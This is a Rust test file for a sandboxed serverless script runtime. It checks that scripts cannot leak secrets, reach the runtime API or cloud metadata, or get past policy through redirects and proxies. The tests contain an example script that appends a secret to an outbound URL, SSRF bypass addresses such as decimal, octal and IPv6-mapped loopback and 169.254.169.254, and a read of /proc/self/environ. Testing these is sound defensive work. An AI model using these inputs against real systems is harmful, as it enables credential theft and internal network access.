//! What a script declares is a wall: what is behind it is out of reach by every way.

use std::fs;
use std::io::Read;
use std::net::{IpAddr, Ipv4Addr, TcpListener, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;
use std::time::Duration;

use rhambda_tests::{Function, Server, answer, repository, skip};
use serde_json::json;

use crate::hostile_scripts::{Outcome, cases};

/// Somebody who listens on a port of every address of this machine, and answers nothing.
struct Listener {
    port: u16,
    connections: Arc<AtomicUsize>,
}

impl Listener {
    fn new() -> Self {
        let everywhere = TcpListener::bind("[::]:0");
        let listener = everywhere.or_else(|_| TcpListener::bind((Ipv4Addr::UNSPECIFIED, 0)));
        let listener = listener.expect("a free port");
        let port = listener.local_addr().expect("a bound socket has an address").port();
        let connections = Arc::new(AtomicUsize::new(0));
        let count = connections.clone();
        thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                count.fetch_add(1, Ordering::SeqCst);
                let _ = stream.set_read_timeout(Some(Duration::from_millis(100)));
                let _ = stream.read(&mut [0; 1024]);
            }
        });
        Self { port, connections }
    }

    fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

/// A name server at an address of its own, who says of every name that it is this machine.
struct NameServer {
    queries: Arc<AtomicUsize>,
}

impl NameServer {
    const ADDRESS: &str = "127.53.0.2";

    /// `None`, said on the terminal, where this machine lets nobody have port 53.
    fn new(answer: [u8; 4]) -> Option<Self> {
        let socket = match UdpSocket::bind((Self::ADDRESS, 53)) {
            Ok(socket) => socket,
            Err(error) => {
                skip(&format!("no name server on port 53: {error}"));
                return None;
            }
        };
        let queries = Arc::new(AtomicUsize::new(0));
        let count = queries.clone();
        thread::spawn(move || {
            let mut query = [0; 512];
            while let Ok((length, peer)) = socket.recv_from(&mut query) {
                count.fetch_add(1, Ordering::SeqCst);
                let mut said = query[..length].to_vec();
                said[2] |= 0x80;
                if said[length - 4..length - 2] == [0, 1] {
                    said[7] = 1;
                    said.extend([0xC0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]);
                    said.extend(answer);
                }
                let _ = socket.send_to(&said, peer);
            }
        });
        Some(Self { queries })
    }

    fn queries(&self) -> usize {
        self.queries.load(Ordering::SeqCst)
    }
}

/// Where nothing but this name server is asked; `None` where no root of its own can be had.
fn in_own_root(function: Function) -> Option<Function> {
    let configuration = format!("nameserver {}\nsearch sink.example\n", NameServer::ADDRESS);
    function.outside_file("etc/resolv.conf", configuration).in_empty_root()
}

const SECRET: &str = "s3cret";

#[test]
fn nothing_of_a_secret_leaves_by_any_way_of_the_suite() {
    let listener = Listener::new();
    let names = NameServer::new([127, 0, 0, 1]);
    let text = fs::read_to_string(repository().join("tests/hostile/escape.txt")).expect("a text");
    let text = text.replace(":9/", &format!(":{}/", listener.port));
    let mut tried = 0;
    for case in cases("escape.txt", &text) {
        let Outcome::Value(Some(expected)) = &case.outcome else { panic!("{}", case.title) };
        let mut function = case.function().env("RHAMBDA_LOG", "debug").event("{}");
        // Only there the name server is ours.
        if names.is_some()
            && ["sink", "allowed.", "${s}/"].iter().any(|it| case.main().contains(it))
        {
            let Some(inside) = in_own_root(function) else { continue };
            function = inside;
        }
        let run = function.run().responded(&expected.to_string()).kept_serving();
        // What a script throws it may say; the log is its owner's.
        if !case.main().contains("throw s") {
            let _ = run.never_logged(SECRET);
        }
        assert_eq!(listener.connections(), 0, "{}", case.title);
        let queries = names.as_ref().map_or(0, NameServer::queries);
        assert_eq!(queries, 0, "{}", case.title);
        tried += 1;
    }
    assert!(tried >= 60, "{tried}");

    // Both would have noticed.
    let server = Server::saying(|_| answer(200, &[], "heard"));
    let send = |allow: &str, host: &str, port: u16| {
        Function::of(&format!(
            "//! allow: env SECRET, http {allow}:{port}
             fn handler(e) {{
                 let url = \"http://{host}:{port}/\" + env::get(\"SECRET\");
                 try {{ return http::get(url, #{{ timeout_ms: 2000, retries: 0 }}).body }}
                 catch (e) {{ return e.type }}
             }}"
        ))
        .env("SECRET", SECRET)
        .env("RHAMBDA_POLICY", "strict")
        .event("{}")
    };
    let heard = send("127.0.0.1", "127.0.0.1", listener.port);
    let _ = heard.run().responded("\"Http.ConnectionLost\"");
    assert!(listener.connections() > 0);
    let resolved = send("*.sink.example", "a.sink.example", server.address().port());
    if let (Some(names), Some(resolved)) = (&names, in_own_root(resolved)) {
        let _ = resolved.run().responded("\"heard\"");
        assert!(names.queries() > 0);
    }
}

/// A script that says how each of these URLs fails; `PORT` is the Runtime API's.
fn reaching(urls: &[&str]) -> Function {
    Function::of(
        "//! allow: http *:*, env AWS_LAMBDA_RUNTIME_API
         fn handler(urls) {
             let port = env::get(\"AWS_LAMBDA_RUNTIME_API\").split(\":\")[-1].split(\"/\")[0];
             urls.map(|url| {
                 url.replace(\"PORT\", port);
                 try { http::get(url, #{ timeout_ms: 1000, retries: 0 }) }
                 catch (e) { return e.type }
                 \"reached\"
             })
         }",
    )
    .event(json!(urls).to_string())
}

fn all_refused(function: Function, urls: &[&str]) {
    let expected = vec!["Policy.Refused"; urls.len()];
    function.run().responded(&json!(expected).to_string()).kept_serving();
}

/// An address of this machine that others reach it by.
fn own_address() -> Option<IpAddr> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).ok()?;
    // Connecting a datagram socket sends nothing.
    socket.connect("198.51.100.7:9").ok()?;
    Some(socket.local_addr().ok()?.ip()).filter(|ip| !ip.is_loopback())
}

#[test]
fn the_runtime_api_is_out_of_reach_by_every_address_where_its_own_is_a_name() {
    let mut urls = vec![
        "http://127.0.0.1:PORT/2018-06-01/runtime/invocation/next",
        "http://localhost:PORT/",
        "http://LOCALHOST.:PORT/",
        "http://any.localhost:PORT/",
        "http://[::1]:PORT/",
        "http://0.0.0.0:PORT/",
        "http://[::]:PORT/",
        "http://[::ffff:7f00:1]:PORT/",
        "http://[64:ff9b::127.0.0.1]:PORT/",
        "http://127.77.0.1:PORT/",
        "http://user@localhost:PORT/",
        "https://localhost:PORT/",
    ];
    let own = own_address().map(|ip| format!("http://{ip}:PORT/"));
    urls.extend(own.as_deref());
    for host in ["127.0.0.1", "localhost", "LocalHost", "api.localhost"] {
        all_refused(reaching(&urls).api_host(host), &urls);
    }
    all_refused(reaching(&urls).api_host("LocalHost").api_path("/behind/a/path"), &urls);
}

#[test]
fn the_runtime_api_is_out_of_reach_by_a_name_that_the_machine_has_for_it() {
    let urls = ["http://api.test:PORT/", "http://API.TEST.:PORT/", "http://127.0.0.1:PORT/"];
    let function = reaching(&urls)
        .outside_file("etc/hosts", "127.0.0.1 api.test\n")
        .api_host("api.test")
        .in_empty_root();
    let Some(function) = function else { return };
    all_refused(function, &urls);
}

#[test]
fn a_name_that_leads_to_metadata_or_to_the_runtime_api_is_refused_where_it_leads() {
    // Both names are of the hosts file, as a name server could have them.
    let urls = ["http://metadata.test/latest/meta-data/", "http://api.test:PORT/"];
    let hosts = "169.254.169.254 metadata.test\n127.0.0.1 api.test\n";
    let Some(function) = reaching(&urls).outside_file("etc/hosts", hosts).in_empty_root() else {
        return;
    };
    all_refused(function, &urls);
}

#[test]
fn redirects_lead_to_nothing_that_is_out_of_reach() {
    let server = Server::saying(|asked| {
        let to = asked.target.strip_prefix("/to?").unwrap_or_default();
        answer(302, &[("Location", to)], "")
    });
    let there = [
        "http://127.0.0.1:PORT/2018-06-01/runtime/invocation/next",
        "http://LocalHost:PORT/",
        "//[::1]:PORT/",
        "http://169.254.169.254/latest/meta-data/",
        "http://[fd00:ec2::254]/",
        "http://[::ffff:a9fe:aa02]/v2/credentials",
    ];
    let urls: Vec<String> = there.iter().map(|to| format!("{}/to?{to}", server.url())).collect();
    let urls: Vec<&str> = urls.iter().map(String::as_str).collect();
    all_refused(reaching(&urls), &urls);
    assert_eq!(server.seen().len(), urls.len());
}

#[test]
fn a_proxy_is_asked_for_nothing_that_is_out_of_reach() {
    let proxy = Server::saying(|_| answer(200, &[], "proxied"));
    let urls = [
        "http://127.0.0.1:PORT/",
        "http://localhost:PORT/",
        "http://2130706433:PORT/",
        "http://0x7f.1:PORT/",
        "http://0177.0.0.1:PORT/",
        "http://169.254.169.254/",
        "http://2852039166/",
        "http://[::ffff:169.254.170.2]/",
        "https://169.254.169.254/",
    ];
    let through = |function: Function| {
        function.env("HTTP_PROXY", &proxy.url()).env("HTTPS_PROXY", &proxy.url())
    };
    all_refused(through(reaching(&urls)), &urls);
    assert!(proxy.seen().is_empty());
    let run = through(reaching(&["http://elsewhere.example/"])).run();
    run.responded("[\"reached\"]").kept_serving();
    assert_eq!(proxy.seen().len(), 1);
}

#[test]
fn a_proxy_that_the_environment_names_is_not_the_runtime_api() {
    let script = "fn handler(event) {
        try { return http::get(\"http://elsewhere.example/\", #{ retries: 0 }).body }
        catch (e) { return e.type }
    }";
    let proxy = Server::saying(|_| answer(200, &[], "proxied"));
    let address = proxy.address();
    let function =
        Function::of(script).env("HTTP_PROXY", &format!("http://LocalHost:{}", address.port()));
    // As the endpoint of the credentials it belongs to the runtime, whoever names it.
    let credentials = format!("http://127.0.0.1:{}/v1/credentials", address.port());
    function
        .env("AWS_CONTAINER_CREDENTIALS_FULL_URI", &credentials)
        .event("{}")
        .run()
        .responded("\"Policy.Refused\"")
        .kept_serving();
    assert!(proxy.seen().is_empty());
}

#[test]
fn a_custom_resource_is_answered_only_where_the_event_says_that_the_runtime_handed_in() {
    let listener = Listener::new();
    let event = json!({
        "RequestType": "Create", "RequestId": "r-1", "ResourceType": "Custom::Bucket",
        "StackId": "arn:aws:cloudformation:eu-west-1:123456789012:stack/shop/7",
        "LogicalResourceId": "Inbox", "ResourceProperties": {},
        "ResponseURL": format!("https://127.0.0.1:{}/answer?a=b", listener.port),
    });
    for change in [
        "event.ResponseURL += \"&k=v\";",
        "event.ResponseURL.replace(\"127.0.0.1\", \"localhost\");",
        "event.RequestId = \"r-2\";",
        "event.StackId += \"1\";",
        "event = json::parse(json::stringify(event)); event.ResponseURL += \"#\";",
    ] {
        let script = format!(
            "//! allow: nothing
             fn handler(event) {{
                 {change}
                 try {{ custom_resource::handle(event, |r| #{{ data: #{{ stolen: 1 }} }}) }}
                 catch (e) {{ return e.type }}
             }}"
        );
        let function = Function::of(&script).env("RHAMBDA_POLICY", "strict");
        let told = function.event(event.to_string()).run().response();
        assert_eq!(told, "\"Policy.Refused\"", "{change}");
    }
    assert_eq!(listener.connections(), 0);
    // One that an earlier invocation was handed is not this one's.
    let script = "//! allow: nothing
        fn handler(event) {
            if event != 1 {
                this.event = event;
                return \"kept\";
            }
            try { custom_resource::handle(this.event, |r| ()) } catch (e) { return e.type }
        }";
    Function::of(script)
        .event(event.to_string())
        .event("1")
        .run()
        .responded("\"kept\"")
        .responded("\"Policy.Refused\"")
        .kept_serving();
    assert_eq!(listener.connections(), 0);
}

#[test]
fn credentials_of_the_environment_are_in_no_log_and_no_error() {
    const KEYS: [&str; 5] = [
        "AWS_ACCESS_KEY_ID",
        "AWS_SECRET_ACCESS_KEY",
        "AWS_SESSION_TOKEN",
        "AWS_CONTAINER_AUTHORIZATION_TOKEN",
        "AWS_SECURITY_TOKEN",
    ];
    for body in [
        "throw 1",
        "env::get(\"AWS_SECRET_ACCESS_KEY\")",
        "env::require(\"AWS_SESSION_TOKEN\")",
        "http::get(\"http://127.0.0.1:1/\", #{ retries: 1 })",
        "http::get(\"https://127.0.0.1:1/\", #{ retries: 0 })",
        "http::get(\"http://[\")",
        "loop { }",
        "let a = [1]; loop { a += a; }",
        "nothing_of_that_name()",
        "fs::read_text(\"/proc/self/environ\")",
        "import \"/proc/self/environ\" as x; 1",
        "metrics::count(\"a\"); log::debug(\"b\", #{ c: 1 }); print(context); debug(context); 1.0/0 + ()",
    ] {
        let mut function = Function::of(&format!("fn handler(event, context) {{ {body} }}"))
            .env("RHAMBDA_LOG", "trace")
            .env("RHAMBDA_TRACE", "1")
            .env("AWS_LAMBDA_LOG_LEVEL", "TRACE")
            .env("HTTP_PROXY", "http://someone:k3y-proxy@127.0.0.1:1")
            .env("HTTPS_PROXY", "http://someone:k3y-proxy@127.0.0.1:1")
            .env("RHAMBDA_MAX_OPERATIONS", "1000000");
        for name in KEYS {
            function = function.env(name, "k3y-role");
        }
        let run = function.event("{}").run().never_logged("k3y");
        for call in run.calls() {
            assert!(!call.text().contains("k3y"), "{body}: {}", call.text());
            for (name, value) in &call.headers {
                let value = String::from_utf8_lossy(value);
                assert!(!value.contains("k3y"), "{body}: {name}: {value}");
            }
        }
    }
}
